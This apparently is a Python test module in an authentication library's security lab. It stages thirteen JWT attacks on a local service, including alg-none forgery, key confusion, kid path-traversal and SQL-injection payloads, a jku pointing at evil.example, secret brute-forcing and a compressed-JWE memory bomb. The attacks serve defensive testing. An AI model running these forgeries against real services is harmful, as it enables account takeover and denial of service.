"""Thirteen attacks on a service that takes JWT: about keys first, then about what is signed."""

# ruff: noqa: ARG001 - every exploit and every build of a feature has the same signature
from __future__ import annotations

import hashlib
import hmac
import json
import os
import tempfile
import zlib
from functools import lru_cache
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from velvet_auth.database import Database
from velvet_auth.keys import Key, KeySet, b64url, decoded
from velvet_auth.samples.lab import Failed, Scene, Send, attack
from velvet_auth.samples.words import WORDS
from velvet_auth.tokens import DenyList, Issuer

ISSUER, API, PARTNER, CLIENT = "https://as.example", "api", "partner", "shop-app"
BOMB_BYTES = 16_000_000
EVIL_JWKS = "https://evil.example/jwks"


@lru_cache(maxsize=2)
def rsa_key(kid: str) -> Key:
    """Return an RS256 key, made once per process."""
    return Key.generate("RS256", kid)


class TopicScene(Scene):
    """An issuer with an RSA key, an API, and mallory's own valid token."""

    def __init__(self) -> None:
        super().__init__()
        self.key = rsa_key("2026-01")
        self.keys = KeySet([self.key])
        self.issuer = Issuer(ISSUER, self.keys, clock=self.clock)
        self.database = Database()
        self.closing.append(self.database.close)
        self.denied = DenyList(self.database, self.clock)
        self.internet: dict[str, Any] = {}
        self.folder = tempfile.TemporaryDirectory()
        self.closing.append(self.folder.cleanup)
        public = Path(self.folder.name, "public")
        public.mkdir()
        (public / "logo.txt").write_bytes(b"velvet")
        Path(self.folder.name, "keys").mkdir()
        Path(self.folder.name, "keys", "2026-01").write_bytes(os.urandom(32))
        self.secret = b""

        def logout(token: str) -> None:
            claims = json.loads(decoded(token.split(".")[1]))
            self.denied.add(claims["jti"], claims["exp"])

        known = self.known
        known.token = self.issuer.access_token("mallory", API)
        known.public_pem = self.key.export(private=False)
        known.publish = self.internet.__setitem__
        known.victim_token = lambda aud: self.issuer.access_token("alice", aud)
        known.id_token = self.issuer.sign({"sub": "alice", "aud": API}, typ="JWT", ttl=300)
        known.eternal = self._without_exp()
        known.logout = logout
        known.wait = self.clock.ahead

    def _without_exp(self) -> str:
        claims = {"iss": ISSUER, "aud": API, "sub": "alice", "iat": int(self.clock()), "jti": "7"}
        header = {"typ": "at+jwt", "kid": self.key.kid}
        return self.issuer._backend.sign(header, json.dumps(claims).encode(), self.key)

    def open(self, claims: dict[str, Any]) -> str:
        """Return what the API shows to the subject of a token."""
        return self.secret_of(str(claims["sub"]))


def _claims(token: str, sub: str = "alice") -> dict[str, Any]:
    return {**json.loads(decoded(token.split(".")[1])), "sub": sub}


def _forge(header: dict[str, Any], claims: dict[str, Any], secret: bytes | None = None) -> str:
    signed = ".".join(b64url(json.dumps(part).encode()) for part in (header, claims))
    made = hmac.new(secret, signed.encode(), hashlib.sha256).digest() if secret is not None else b""
    return f"{signed}.{b64url(made)}"


def honest(known: SimpleNamespace, send: Send) -> bool:
    """Mallory reads what is mallory's."""
    return "mallory" in send(known.token)


@attack("jwt-none", "Algorithm none", "CWE-347", "RFC 8725 3.1", blocked="alg", control=honest)
def jwt_none(known: SimpleNamespace, send: Send) -> Any:
    return send(_forge({"alg": "none", "typ": "at+jwt"}, _claims(known.token)))


@attack("jwt-none-case", "Algorithm nOnE", "CWE-178", "RFC 8725 3.1", blocked="alg", control=honest)
def jwt_none_case(known: SimpleNamespace, send: Send) -> Any:
    return send(_forge({"alg": "nOnE", "typ": "at+jwt"}, _claims(known.token)))


@attack(
    "jwt-key-confusion",
    "RS256 key used as HS256 secret",
    "CWE-347",
    "RFC 8725 3.1",
    blocked="alg",
    control=honest,
)
def jwt_key_confusion(known: SimpleNamespace, send: Send) -> Any:
    header = {"alg": "HS256", "typ": "at+jwt", "kid": "2026-01"}
    return send(_forge(header, _claims(known.token), known.public_pem))


@attack(
    "jwt-weak-secret",
    "HMAC secret from a word list",
    "CWE-521",
    "RFC 8725 3.5",
    blocked="goal",
    control=honest,
)
def jwt_weak_secret(known: SimpleNamespace, send: Send) -> Any:
    signed, _, signature = known.token.rpartition(".")
    for word in WORDS:
        made = hmac.new(word.encode(), signed.encode(), hashlib.sha256).digest()
        if b64url(made) == signature:
            header = json.loads(decoded(known.token.split(".")[0]))
            return send(_forge(header, _claims(known.token), word.encode()))
    raise Failed("no word of the list")


@attack(
    "jwt-kid-path", "kid names a file", "CWE-22", "RFC 8725 3.10", blocked="key", control=honest
)
def jwt_kid_path(known: SimpleNamespace, send: Send) -> Any:
    header = {"alg": "HS256", "typ": "at+jwt", "kid": "../public/logo.txt"}
    return send(_forge(header, _claims(known.token), b"velvet"))


@attack(
    "jwt-kid-sql", "kid continues a query", "CWE-89", "RFC 8725 3.10", blocked="key", control=honest
)
def jwt_kid_sql(known: SimpleNamespace, send: Send) -> Any:
    header = {"alg": "HS256", "typ": "at+jwt", "kid": "x' UNION SELECT 'mallory"}
    return send(_forge(header, _claims(known.token), b"mallory"))


def _with_own_key(known: SimpleNamespace, header: dict[str, Any]) -> str:
    own = rsa_key("mallory")
    payload = json.dumps(_claims(known.token)).encode()
    issuer = Issuer(ISSUER, KeySet([own]))
    return issuer._backend.sign({"typ": "at+jwt", "kid": "mallory", **header}, payload, own)


@attack(
    "jwt-jku",
    "jku names the attacker's keys",
    "CWE-918",
    "RFC 8725 3.10",
    blocked="key",
    control=honest,
)
def jwt_jku(known: SimpleNamespace, send: Send) -> Any:
    known.publish(EVIL_JWKS, KeySet([rsa_key("mallory")]).public_jwks())
    return send(_with_own_key(known, {"jku": EVIL_JWKS}))


@attack(
    "jwt-embedded-jwk",
    "The token brings its key",
    "CWE-347",
    "RFC 7515 4.1.3",
    blocked="key",
    control=honest,
)
def jwt_embedded_jwk(known: SimpleNamespace, send: Send) -> Any:
    return send(_with_own_key(known, {"jwk": rsa_key("mallory").public_jwk()}))


@attack(
    "jwt-audience",
    "Token of another service",
    "CWE-287",
    "RFC 8725 3.9",
    blocked="audience",
    control=honest,
)
def jwt_audience(known: SimpleNamespace, send: Send) -> Any:
    return send(known.victim_token(PARTNER))  # mallory runs the partner service


@attack(
    "jwt-id-token",
    "ID token as access token",
    "CWE-287",
    "RFC 9068 4",
    blocked="type",
    control=honest,
)
def jwt_id_token(known: SimpleNamespace, send: Send) -> Any:
    return send(known.id_token)


@attack(
    "jwt-no-exp",
    "Token that never expires",
    "CWE-613",
    "RFC 9068 2.2",
    blocked="malformed",
    control=honest,
)
def jwt_no_exp(known: SimpleNamespace, send: Send) -> Any:
    known.wait(365 * 86_400)
    return send(known.eternal)


@attack(
    "jwt-after-logout",
    "Token alive after logout",
    "CWE-613",
    "ASVS 5 7.4.1",
    blocked="revoked",
    control=honest,
)
def jwt_after_logout(known: SimpleNamespace, send: Send) -> Any:
    stolen = known.victim_token(API)
    known.logout(stolen)
    return send(stolen)


@attack(
    "jwt-zip-bomb",
    "Compressed JWE fills the memory",
    "CWE-409",
    "RFC 8725 3.6",
    blocked="malformed",
    control=honest,
)
def jwt_zip_bomb(known: SimpleNamespace, send: Send) -> Any:
    packer = zlib.compressobj(wbits=-15)
    plain = packer.compress(b"0" * BOMB_BYTES) + packer.flush()
    header = b64url(json.dumps({"alg": "RSA-OAEP", "enc": "A256GCM", "zip": "DEF"}).encode())
    secret, nonce = os.urandom(32), os.urandom(12)
    oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303
    wrapped = rsa_key("2026-01").public.encrypt(secret, oaep)
    sealed = AESGCM(secret).encrypt(nonce, plain, header.encode())
    parts = (wrapped, nonce, sealed[:-16], sealed[-16:])
    return send(".".join([header, *(b64url(part) for part in parts)]))
